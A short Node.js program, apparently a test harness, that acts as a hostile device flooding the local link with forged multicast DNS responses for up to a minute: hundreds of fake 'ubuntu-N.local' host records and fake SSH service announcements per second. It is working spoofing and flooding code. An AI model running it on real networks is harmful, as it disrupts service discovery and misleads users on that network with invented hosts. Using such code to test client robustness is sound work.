// A program: a hostile device on a link, which makes up machines without end by multicast DNS. Argument: its address there. Prints a line once it has begun, and ends with
// its input, or after a minute.
import { createSocket } from 'node:dgram';
import { encode } from 'dns-packet';

const [address = ''] = process.argv.slice(2);
const [recordsEach, messagesPerSecond] = [100, 100];
const network = address.split('.').slice(0, 3).join('.');
let number = 0;

function message() {
  const answers = Array.from({ length: recordsEach }, () => {
    number++;
    const made = { ttl: 4500, class: 'IN' };
    return number % 2 === 0
      ? { ...made, name: `ubuntu-${number}.local`, type: 'A', data: `${network}.${number % 250}` }
      : { ...made, name: '_ssh._tcp.local', type: 'PTR', data: `pi-${number}._ssh._tcp.local` };
  });
  return encode({ type: 'response', answers });
}

const socket = createSocket({ type: 'udp4', reuseAddr: true });
socket.bind(5353, () => {
  socket.setMulticastInterface(address);
  const everyMs = 20;
  setInterval(() => {
    for (let left = (messagesPerSecond * everyMs) / 1000; left > 0; left--)
      socket.send(message(), 5353, '224.0.0.251');
  }, everyMs);
  process.stdout.write('floods\n');
});
setTimeout(() => process.exit(0), 60_000);
